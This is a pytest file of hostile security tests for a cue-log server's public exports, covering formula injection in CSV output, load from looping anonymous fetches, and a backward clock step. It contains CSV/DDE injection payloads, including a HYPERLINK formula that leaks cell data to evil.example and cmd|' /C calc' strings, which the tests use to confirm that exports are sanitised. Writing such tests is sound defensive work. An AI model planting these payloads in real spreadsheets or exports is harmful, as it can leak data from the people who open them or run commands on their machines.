"""Hostile tests 23, 25 and 26 (docs/security.md): the public exports of the cue log. Their
cells cannot run as spreadsheet formulas, anonymous clients fetching them in a loop do not
slow the commands, and a backward step of the server's clock does not empty them."""

from __future__ import annotations

import csv
import io
import re
import statistics
import time
from collections.abc import Callable
from pathlib import Path

from tests.conftest import Tokens
from tests.hostile.loops import running
from tests.hostile.test_hardening_replay import (
    BASELINE_FLOOR_S,
    FAST_STAFF,
    _ack_times,
    _history,
)
from tests.hostile.tools import assert_intact, control_viewer
from tests.support.harness import ServerProcess, WsClient, http_request, skip_or_fail

Open = Callable[..., WsClient]
Start = Callable[..., ServerProcess]


def test_anonymous_clients_fetching_the_exports_in_a_loop_do_not_slow_a_coordinator(
    server_factory: Start, ws_client: Open, tokens: Tokens
) -> None:
    server = server_factory(*FAST_STAFF)
    _history(server, ws_client, tokens.paris_operator, 2500)  # a cue log of 2,500 entries
    with control_viewer(server) as viewer:
        coordinator = ws_client(server.ws_url)
        coordinator.hello(tokens.paris)
        baseline = _ack_times(coordinator, 30, "b")
        urls = ",".join(
            server.url + path
            for path in ("/api/cues/paris/log.csv", "/api/cues/paris/log.vtt", "/api/drift")
        )
        with running("fetch", urls, 12, 6.0) as served:
            time.sleep(2.0)  # the loops are under way
            during = _ack_times(coordinator, 15, "d")
        p50_before, p50_during = statistics.median(baseline), statistics.median(during)
        print(
            f"coordinator ack p50: baseline {p50_before * 1000:.1f} ms, with 12 clients "
            f"fetching exports {p50_during * 1000:.1f} ms (max {max(during) * 1000:.1f} ms); "
            f"{served['served']} exports served"
        )
        assert p50_during < 3 * max(p50_before, BASELINE_FLOOR_S), (p50_before, p50_during)
        expected = [f"{p}{n}" for p, k in (("b", 30), ("d", 15)) for n in range(k)]
        audit = [f"h{n}" for n in range(2500)] + expected
        assert_intact(server, viewer, tokens.admin, expected_audit=audit)


# -- 23. formulas in the public CSV ----------------------------------------------------------

HOSTILE_CELLS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "- Yes? - No.",  # a dialogue line: a formula in a spreadsheet
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1+1",
]


def test_no_cell_of_the_public_cue_log_csv_runs_as_a_formula(
    server: ServerProcess, ws_client: Open, tokens: Tokens
) -> None:
    rows = ["n,en,fr"] + [
        f'{n},"{text.replace(chr(34), chr(34) * 2)}","fr {n}"'
        for n, text in enumerate(HOSTILE_CELLS, start=1)
    ]
    code, _, body = http_request(
        "PUT",
        server.url + "/api/cues/paris/script",
        headers={"Authorization": f"Bearer {tokens.admin}", "Content-Type": "text/csv"},
        body="\n".join(rows).encode(),
    )
    assert code == 200, body[:300]
    operator = ws_client(server.ws_url)
    operator.hello(tokens.paris_operator)
    for n in range(len(HOSTILE_CELLS)):
        operator.send({"type": "cue", "id": f"go{n}", "city": "paris", "action": "next"})
        assert operator.recv_until(lambda m: m["type"] in ("ack", "error"))["type"] == "ack"
    note = '=HYPERLINK("http://evil.example")'
    status = server.post_json(
        "/api/cities/paris/status", {"id": "n1", "state": "preparing", "note": note}, tokens.paris
    )
    assert status[0] == 200
    _, _, csv_body = server.get("/api/cues/paris/log.csv")
    cells = [cell for row in _csv_rows(csv_body)[1:] for cell in row[3:]]
    assert {cell.lstrip("'") for cell in cells} >= set(HOSTILE_CELLS)
    _, _, audit_body = server.get("/api/log.csv", {"Authorization": f"Bearer {tokens.admin}"})
    cells += [cell for row in _csv_rows(audit_body)[1:] for cell in row]
    for cell in cells:
        assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "＝")), cell


def _csv_rows(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8"))))


# -- 26. a backward step of the server's clock -----------------------------------------------

FAKETIME = Path("/usr/lib/x86_64-linux-gnu/faketime/libfaketime.so.1")


def test_a_backward_clock_step_does_not_empty_the_webvtt_export(
    server_factory: Start, ws_client: Open, tokens: Tokens, tmp_path: Path
) -> None:
    if not FAKETIME.exists():
        skip_or_fail(f"libfaketime not found at {FAKETIME} (Debian's libfaketime)")
    offset = tmp_path / "clock-offset"
    offset.write_text("+0s\n")
    server = server_factory(
        env={
            # The wall clock is the file's offset from the real one; the monotonic clock
            # stays real, as it does when NTP or an administrator steps the wall clock.
            "LD_PRELOAD": str(FAKETIME),
            "FAKETIME_TIMESTAMP_FILE": str(offset),
            "FAKETIME_NO_CACHE": "1",
            "FAKETIME_DONT_FAKE_MONOTONIC": "1",
        }
    )
    operator = ws_client(server.ws_url)
    operator.hello(tokens.paris_operator)
    for n in range(6):
        if n == 3:
            offset.write_text("-3600s\n")  # the clock steps back an hour
        operator.send({"type": "cue", "id": f"go{n}", "city": "paris", "action": "next"})
        assert operator.recv_until(lambda m: m["type"] in ("ack", "error"))["type"] == "ack"
        time.sleep(0.3)
    _, _, body = server.get("/api/cues/paris/log.vtt")
    spans = re.findall(r"^(\d\d):(\d\d):(\d\d)\.(\d{3}) --> (\d\d):(\d\d):(\d\d)\.(\d{3})$",
                       body.decode(), re.M)  # fmt: skip
    assert len(spans) >= 5, body.decode()  # every cue shown (blank ones show nothing)
    for span in spans:
        h1, m1, s1, ms1, h2, m2, s2, ms2 = map(int, span)
        duration_ms = ((h2 - h1) * 3600 + (m2 - m1) * 60 + (s2 - s1)) * 1000 + ms2 - ms1
        assert duration_ms >= 250, span
    times = [row[0] for row in _csv_rows(server.get("/api/cues/paris/log.csv")[2])[1:]]
    assert times == sorted(times), times
